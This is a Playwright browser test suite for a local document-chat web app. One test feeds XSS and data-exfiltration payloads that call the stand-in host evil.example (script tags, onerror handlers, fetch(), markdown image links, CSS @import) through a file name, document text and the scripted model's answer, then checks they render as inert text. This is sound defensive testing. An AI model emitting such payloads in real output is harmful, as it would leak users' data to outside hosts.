"""The page in a real browser, over a scripted assistant: what a person does, sees, and never sends elsewhere."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.app.browsing import Visit, chromium, visiting
from tests.app.papers import write_pdf
from tests.app.scripted import Facts, ScriptedAssistant, placed_at_home
from tests.app.serving import serving, wait_for

# Gradio reckons statistics of its queue with pandas, in ways that pandas deprecates.
pytestmark = [pytest.mark.browser, pytest.mark.filterwarnings("ignore:::gradio")]

WORDS = "The relief valve opens at **40 bar** and the pump stops two seconds later."
PAGES = [
    [f"Chapter {number}", "", f"The relief valve of line {number} opens at {number}0 bar and no sooner."]
    for number in range(1, 5)
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as started:
        yield started


@pytest.fixture
def assistant() -> ScriptedAssistant:
    return ScriptedAssistant(WORDS, pause=0.05)


@pytest.fixture
def address(assistant: ScriptedAssistant, tmp_path: Path) -> Iterator[str]:
    with serving(assistant, tmp_path / "data") as place:
        yield place


@pytest.fixture
def visit(browser: Browser, address: str) -> Iterator[Visit]:
    with visiting(browser, address) as opened:
        yield opened


@pytest.fixture
def manual(tmp_path: Path) -> Path:
    return write_pdf(tmp_path / "manual.pdf", PAGES)


def choose(page: Page, *paths: Path) -> None:
    page.set_input_files("[data-picker=files]", list(paths))
    expect(page.locator(".document[data-status=ready]")).to_have_count(len(paths))


def ask(page: Page, question: str) -> None:
    page.fill("#question textarea", question)
    page.press("#question textarea", "Enter")


def test_from_a_dropped_pdf_to_the_page_an_answer_rests_on(
    visit: Visit, assistant: ScriptedAssistant, manual: Path
) -> None:
    """Drop, meter, ask, stream, Stop, ask again, click a chip: and no request leaves this machine."""
    page = visit.page
    expect(page.locator("button#send")).to_be_disabled()
    drop(page, manual)
    expect(page.locator(".document-name")).to_have_text("manual.pdf")
    expect(page.locator(".document .particulars")).to_have_text("4 pages · 60 tokens")
    expect(page.locator(".meter-numbers")).to_have_text("60 of 7,552 tokens")

    assistant.gate.clear()
    ask(page, "When does the pump stop?")
    expect(page.locator("#question textarea")).to_have_value("")
    expect(page.locator(".exchange[data-phase=answering] .words")).to_contain_text("The relief valve opens")
    expect(page.locator(".chip")).to_have_count(0)
    page.click("button#stop")
    expect(page.locator(".exchange[data-phase=stopped]")).to_contain_text("You stopped this answer.")
    wait_for(lambda: assistant.was_cancelled)

    assistant.gate.set()
    ask(page, "And now?")
    second = page.locator(".exchange[data-phase=done]")
    expect(second.locator(".words strong")).to_have_text("40 bar")
    expect(second.locator(".stats")).to_contain_text("60 cached + 20 new tokens")
    expect(second.locator(".chip")).to_have_count(3)
    second.locator(".chip").nth(1).click()
    expect(page.locator(".reader-place")).to_have_text("Page 2 of 4")
    expect(page.locator(".reader-text mark")).to_contain_text("The relief valve of line 2")
    page.click("[aria-label='Next page']")
    expect(page.locator(".reader-place")).to_have_text("Page 3 of 4")
    page.keyboard.press("Escape")
    expect(page.locator("#reader")).not_to_be_visible()


def drop(page: Page, path: Path) -> None:
    """Drop a file on the window, as a file manager does."""
    transfer = page.evaluate_handle(
        """([name, bytes]) => {
            const transfer = new DataTransfer();
            transfer.items.add(new File([new Uint8Array(bytes)], name));
            return transfer;
        }""",
        [path.name, list(path.read_bytes())],
    )
    for event in ("dragenter", "dragover", "drop"):
        page.dispatch_event("body", event, {"dataTransfer": transfer})


def test_a_folder_is_one_document(visit: Visit, tmp_path: Path) -> None:
    """Its files keep their paths; what nobody asks about is left out, and named."""
    folder = tmp_path / "project"
    for name in ("main.py", "sub/part.py", "node_modules/lib.js"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("one two three\n")
    visit.page.set_input_files("[data-picker=folder]", folder)
    expect(visit.page.locator(".document .particulars")).to_have_text("2 files · 6 tokens")
    expect(visit.page.locator(".drop-status")).to_have_text("Left out: node_modules.")
    visit.page.click("button.document-name")
    expect(visit.page.locator(".reader-place")).to_contain_text("main.py")


def test_prefill_shows_how_far_it_is_and_can_be_cancelled(
    visit: Visit, assistant: ScriptedAssistant, manual: Path
) -> None:
    assistant.n_blocks, assistant.pause = 400, 0.05
    choose(visit.page, manual)
    ask(visit.page, "When?")
    expect(visit.page.locator(".prefill .particulars")).to_contain_text("of 60 tokens · 950 tokens/s")
    expect(visit.page.locator("#announcement [role=status]")).to_contain_text("Reading the documents, 0 per cent.")
    visit.page.click("text=Cancel")
    expect(visit.page.locator(".exchange[data-phase=stopped]")).to_contain_text("Stopped before the first word.")
    expect(visit.page.locator("button#send")).to_be_enabled()


def test_a_reload_in_mid_answer_finds_everything_again(
    visit: Visit, assistant: ScriptedAssistant, manual: Path
) -> None:
    """The answer is written by the server: it goes on while no page is there, and the page finds it."""
    page = visit.page
    choose(page, manual)
    assistant.gate.clear()
    ask(page, "When does the pump stop?")
    expect(page.locator(".exchange[data-phase=answering]")).to_contain_text("The relief valve")
    visit.reload()
    expect(page.locator(".document-name")).to_have_text("manual.pdf")
    expect(page.locator(".exchange[data-phase=answering] .question")).to_have_text("When does the pump stop?")
    assistant.gate.set()
    expect(page.locator(".exchange[data-phase=done] .words")).to_contain_text("two seconds later.")
    visit.reload()
    expect(page.locator(".exchange[data-phase=done] .words")).to_contain_text("two seconds later.")


def test_two_pages_show_the_same(browser: Browser, address: str, visit: Visit, manual: Path) -> None:
    choose(visit.page, manual)
    with visiting(browser, address) as other:
        ask(other.page, "When?")
        expect(visit.page.locator(".exchange[data-phase=done]")).to_contain_text("two seconds later.")


def test_over_the_limit_nothing_can_be_sent(browser: Browser, tmp_path: Path, manual: Path) -> None:
    """Both numbers and what to do; choosing fewer pages makes it possible."""
    small = ScriptedAssistant(facts=Facts(context=690))
    with serving(small, tmp_path / "small") as address, visiting(browser, address) as visit:
        page = visit.page
        choose(page, manual)
        expect(page.locator(".meter[data-over=true] .meter-numbers")).to_have_text("60 of 50 tokens")
        expect(page.locator(".advice")).to_contain_text("10 tokens too many. Nothing is cut")
        expect(page.locator("button#send")).to_be_disabled()
        ask(page, "When?")
        expect(page.locator("#hint")).to_contain_text("choose fewer pages or untick a document")
        expect(page.locator("#question textarea")).to_have_value("When?")
        assert small.asked == []

        pages = page.locator("[data-change=select]")
        pages.fill("7-9")
        pages.press("Enter")
        expect(page.locator(".document .warning")).to_contain_text("manual.pdf has 4 pages")
        pages.fill("1-2")
        pages.press("Enter")
        expect(page.locator(".document .particulars")).to_have_text("2 of 4 pages · 30 tokens")
        expect(page.locator("button#send")).to_be_enabled()
        page.locator("[data-change=check]").uncheck()
        expect(page.locator("button#send")).to_be_disabled()


def test_an_unreadable_file_says_why_and_the_others_go_on(visit: Visit, tmp_path: Path, manual: Path) -> None:
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    visit.page.set_input_files("[data-picker=files]", [empty, manual])
    expect(visit.page.locator(".document[data-status=failed]")).to_contain_text("empty.txt is empty.")
    expect(visit.page.locator(".document[data-status=ready]")).to_have_count(1)
    visit.page.click("[aria-label='Remove empty.txt']")
    expect(visit.page.locator(".document")).to_have_count(1)


def test_an_answer_cannot_make_the_browser_fetch(visit: Visit, assistant: ScriptedAssistant, tmp_path: Path) -> None:
    """A document's injected text, through the model's words, reaches the screen as words and nothing else."""
    name = "<img src=https:__evil.example_n onerror=alert(1)>.txt"
    (tmp_path / name).write_text("<script src=https://evil.example/t></script> ![](https://evil.example/u)")
    assistant.words = (
        "![](https://evil.example/?leak) <img src='https://evil.example/i'> [go](https://evil.example/a) "
        "<script>fetch('https://evil.example/s')</script> <b onmouseover=alert(1)>b</b> ![x][y]\n\n"
        "[y]: https://evil.example/r\n\n<style>@import 'https://evil.example/c'</style>"
    )
    page = visit.page
    page.on("dialog", lambda dialog: visit.complaints.append(dialog.message))
    choose(page, tmp_path / name)
    ask(page, "<img src='https://evil.example/q'>")
    expect(page.locator(".exchange[data-phase=done] .words")).to_contain_text("![](https://evil.example/?leak)")
    page.locator(".chip").first.click()
    expect(page.locator(".reader-text")).to_contain_text("<script src=")
    assert page.locator(":is(.exchange, #shelf, #reader, #chats) :is(img, script, iframe, a, style)").count() == 0


def test_a_page_whose_server_ended_says_so(browser: Browser, tmp_path: Path) -> None:
    with serving(ScriptedAssistant(), tmp_path / "data") as address:
        page = browser.new_page()
        page.goto(address)
        expect(page.locator("#beat i")).to_be_attached()
    expect(page.locator(".lost")).to_contain_text("Start it again: this page comes back by itself.")
    page.close()


def test_chats_are_kept_side_by_side(visit: Visit, manual: Path) -> None:
    page = visit.page
    choose(page, manual)
    ask(page, "First question?")
    expect(page.locator(".exchange[data-phase=done]")).to_have_count(1)
    page.click(".new-chat")
    expect(page.locator(".welcome h2")).to_have_text("Ask about manual.pdf")
    page.click("text=Summarise the documents")
    expect(page.locator("#question textarea")).to_have_value("Summarise the documents, section by section.")
    page.press("#question textarea", "Enter")
    expect(page.locator(".chats .chat")).to_have_count(2)
    page.click(".chats >> text=First question?")
    expect(page.locator(".exchange .question")).to_have_text("First question?")


def test_every_control_has_a_name_and_the_keyboard_reaches_it(visit: Visit, manual: Path) -> None:
    page = visit.page
    choose(page, manual)
    ask(page, "When?")
    page.locator(".chip").first.click()
    expect(page.locator(".reader-text mark")).to_be_visible()
    nameless = page.evaluate(
        """() => [...document.querySelectorAll("button, input, textarea, summary, [role=button]")]
            .filter((control) => control.checkVisibility())
            .filter((control) => !(control.getAttribute("aria-label") || control.textContent.trim()
                || [...(control.labels || [])].some((label) => label.textContent.trim())))
            .map((control) => control.outerHTML.slice(0, 200))"""
    )
    assert nameless == []
    page.locator("body").click(position={"x": 640, "y": 500})
    page.keyboard.press("/")
    expect(page.locator("#question textarea")).to_be_focused()
    page.keyboard.type("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    expect(page.locator("#question textarea")).to_have_value("one\ntwo")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_narrow_screen_shows_one_part_at_a_time(browser: Browser, address: str, manual: Path, scheme: str) -> None:
    """At 390 px nothing is wider than the screen, and all three parts can be reached."""
    phone = {"viewport": {"width": 390, "height": 844}, "color_scheme": scheme}
    with visiting(browser, address, **phone) as visit:
        page = visit.page
        choose(page, manual)
        page.click("[data-local=view][data-view=chat]")
        ask(page, "When does the pump stop?")
        expect(page.locator(".exchange[data-phase=done]")).to_be_visible()
        expect(page.locator("#left")).not_to_be_visible()
        page.locator(".chip").first.click()
        expect(page.locator(".reader-text mark")).to_be_visible()
        expect(page.locator("#talk")).not_to_be_visible()
        page.click("[data-local=view][data-view=documents]")
        expect(page.locator(".meter-numbers")).to_be_visible()
        assert page.evaluate("document.documentElement.scrollWidth") == 390


@pytest.mark.parametrize("width", [1280, 390])
def test_where_the_model_runs_opens_inside_the_panel(browser: Browser, tmp_path: Path, width: int) -> None:
    """The plan is out of the way until asked for; then all of it can be reached, and nothing runs out of the page."""
    placed = placed_at_home()
    facts = Facts(mode=placed.chosen.mode, mode_reason=placed.chosen.reason, placed=placed)
    size = {"width": width, "height": 700}
    with (
        serving(ScriptedAssistant(WORDS, facts=facts), tmp_path / "data") as address,
        visiting(browser, address, viewport=size) as visit,
    ):
        panel, plan = visit.page.locator(".engine-panel"), visit.page.locator(".plan table").first
        expect(plan).to_be_hidden()
        visit.page.locator(".engine > summary").click()
        expect(panel).to_be_visible()
        expect(plan).to_be_hidden()
        visit.page.locator(".plan summary").click()
        expect(plan).to_be_visible()
        visit.page.get_by_text("Next worse").scroll_into_view_if_needed()
        expect(visit.page.get_by_text("Next worse")).to_be_in_viewport()
        box = panel.bounding_box()
        assert box is not None
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= width
        assert box["y"] + box["height"] <= 700
        assert panel.evaluate("(element) => element.scrollWidth <= element.clientWidth")
        visit.page.keyboard.press("Escape")
        expect(panel).to_be_hidden()
